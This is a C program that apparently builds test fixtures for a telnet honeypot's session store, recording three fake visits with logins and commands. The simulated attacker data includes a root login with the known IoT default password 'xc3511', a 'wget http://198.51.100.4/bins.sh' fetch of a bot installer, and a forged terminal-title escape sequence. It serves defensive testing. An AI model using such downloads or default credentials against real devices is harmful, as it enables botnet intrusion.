/*
 * Makes sessions at the trap in a state folder, for tests of the commands: make-sessions STATE SECONDS
 *
 * Three visits, the first an hour before SECONDS (since 1970), from 198.51.100.4, the same, and 2001:db8::5; the second
 * reads a forged terminal title and a made file; the third goes on.
 */
#include "store/store.h"

#include "base/sha256.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define US INT64_C(1000000)

struct maker {
    struct store *s;
    uint64_t id;
    int64_t start, now;
};

static void check(int err)
{
    if (err)
        exit((fprintf(stderr, "make-sessions: %d\n", err), 1));
}

static void keep(struct maker *m, struct session_event *e)
{
    check(store_session_event(m->s, e));
    m->now += US / 4;
}

static void begin(struct maker *m, uint64_t id, int64_t start, const char *source, const char *persona)
{
    struct session_event e;
    struct addr from, to;
    check(addr_parse(source, &from) | addr_parse("192.0.2.9", &to));
    m->id = id;
    m->start = m->now = start * US;
    session_begin(&e, SESSION_OPEN, id, m->now);
    session_set_address(&e, FIELD_SOURCE, &from);
    session_set(&e, FIELD_SOURCE_PORT, 40123);
    session_set_address(&e, FIELD_DESTINATION, &to);
    session_set(&e, FIELD_DESTINATION_PORT, 23);
    session_set_text(&e, FIELD_SERVICE, "telnet");
    session_set_text(&e, FIELD_PERSONA, persona);
    keep(m, &e);
    session_begin(&e, SESSION_CLIENT, id, m->now);
    session_set_bytes(&e, FIELD_NEGOTIATION, "\xfd\x01", 2);
    session_set_text(&e, FIELD_TERMINAL, "vt100");
    keep(m, &e);
}

static void say(struct maker *m, unsigned direction, const char *text)
{
    struct session_event e;
    session_begin(&e, SESSION_SPOKEN, m->id, m->now);
    session_set(&e, FIELD_DIRECTION, direction);
    session_set(&e, FIELD_AT, (uint64_t)(m->now - m->start));
    session_set_text(&e, FIELD_DATA, text);
    keep(m, &e);
}

static void word(struct maker *m, enum session_type type, enum session_field f, const char *text)
{
    struct session_event e;
    session_begin(&e, type, m->id, m->now);
    session_set_text(&e, f, text);
    keep(m, &e);
}

static void login(struct maker *m, const char *password, bool accepted)
{
    struct session_event e;
    session_begin(&e, SESSION_LOGIN, m->id, m->now);
    session_set_text(&e, FIELD_USER, "root");
    session_set_text(&e, FIELD_PASSWORD, password);
    session_set(&e, FIELD_ACCEPTED, accepted);
    keep(m, &e);
}

static void make_file(struct maker *m, const char *content)
{
    struct session_event e;
    struct sha256 h;
    uint8_t hash[SHA256_BYTES];
    sha256_begin(&h);
    sha256_add(&h, content, strlen(content));
    sha256_end(&h, hash);
    session_begin(&e, SESSION_FILE, m->id, m->now);
    session_set_text(&e, FIELD_PATH, "/tmp/x");
    session_set_bytes(&e, FIELD_SHA256, hash, sizeof hash);
    session_set(&e, FIELD_SIZE, strlen(content));
    session_set_text(&e, FIELD_CONTENT, content);
    keep(m, &e);
}

static void visit(struct maker *m, const char *command)
{
    say(m, 1, "recorder login: ");
    login(m, "wrong", false);
    login(m, "xc3511", true);
    say(m, 1, "# ");
    say(m, 0, command);
    word(m, SESSION_COMMAND, FIELD_COMMAND, command);
    say(m, 1, "\033]0;title\007answer\r\n# ");
}

int main(int argc, char **argv)
{
    struct maker m = { .id = 0 };
    if (argc != 3)
        return 2;
    int64_t now = strtoll(argv[2], NULL, 10);
    check(store_open(&m.s, argv[1], STORE_WRITE));
    begin(&m, 0xa1, now - 3600, "198.51.100.4", "recorder");
    visit(&m, "uname -a");
    word(&m, SESSION_CLOSE, FIELD_REASON, "left");
    begin(&m, 0xa2, now - 1800, "198.51.100.4", "router");
    visit(&m, "wget http://198.51.100.4/bins.sh");
    word(&m, SESSION_DOWNLOAD, FIELD_URL, "http://198.51.100.4/bins.sh");
    word(&m, SESSION_UNKNOWN, FIELD_COMMAND, "dvrHelper");
    make_file(&m, "#!/bin/sh\necho 198.51.100.4\n");
    word(&m, SESSION_CLOSE, FIELD_REASON, "timeout");
    begin(&m, 0xffffffffffffffa3, now - 60, "2001:db8::5", "router");
    visit(&m, "uname -a");
    check(store_commit(m.s));
    store_close(m.s);
    return 0;
}
